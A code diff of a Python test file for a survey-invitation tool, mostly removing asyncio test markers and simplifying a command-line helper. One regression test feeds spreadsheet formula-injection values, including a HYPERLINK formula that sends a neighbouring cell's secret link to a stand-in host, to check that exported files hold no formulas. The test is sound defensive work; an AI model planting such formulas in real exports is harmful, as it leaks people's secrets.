@@ -6,7 +6,6 @@ import asyncio
 import csv
 import re
 from pathlib import Path
-from typing import Any
 
 import pytest
 
@@ -26,7 +25,7 @@ from croupier.protocol.identity import public_key_of
 from croupier.protocol.invitations import Invitation
 from croupier.protocol.names import Digest, RoundId
 from tests.support import in_process
-from tests.support.command_line import answer, croupier
+from tests.support.command_line import Beside, croupier
 from tests.support.messages import naming
 from tests.support.rounds import table
 from tests.support.sheets import write_book
@@ -90,7 +89,6 @@ def test_links_are_written_for_a_mail_merge_and_for_printing(tmp_path: Path) -> 
     assert (tmp_path / "plain" / "links.csv").read_text() == f"label,link,expires\nAda,{link},\n"
 
 
-@pytest.mark.asyncio
 async def test_no_file_of_links_or_people_holds_a_formula(tmp_path: Path) -> None:
     """Reproduction: a spreadsheet ran a cell of people.csv in the file that has everybody's secret link."""
     label, mail = '=HYPERLINK("https://a.example/?"&B2)', "+cmd()"
@@ -125,7 +123,6 @@ def test_a_link_that_is_not_an_invitation_is_not_repeated() -> None:
         assert "secret" not in str(refused.value)
 
 
-@pytest.mark.asyncio
 async def test_invitations_are_listed_reissued_and_revoked(tmp_path: Path) -> None:
     async with table(tmp_path, 1) as at:
         survey, where, how = await opened_survey(at), at.inside.directory, at.inside.transport
@@ -165,7 +162,6 @@ async def test_invitations_are_listed_reissued_and_revoked(tmp_path: Path) -> No
 
 
 @pytest.mark.slow
-@pytest.mark.asyncio
 async def test_invitations_from_the_command_line(tmp_path: Path) -> None:
     """Over TLS, as the commands know no other way."""
     place, out, people = tmp_path / "d", tmp_path / "out", tmp_path / "people.xlsx"
@@ -173,8 +169,7 @@ async def test_invitations_from_the_command_line(tmp_path: Path) -> None:
     file = tmp_path / "survey.toml"
     questions = [question.model_dump(exclude_defaults=True) for question in survey_file().questions]
 
-    async def ask(*arguments: str | Path, expect: int = 0) -> Any:
-        return await asyncio.to_thread(answer, *arguments, "--dir", place, expect=expect)
+    ask = Beside(place).ask
 
     from croupier.operator.survey_file import written
 
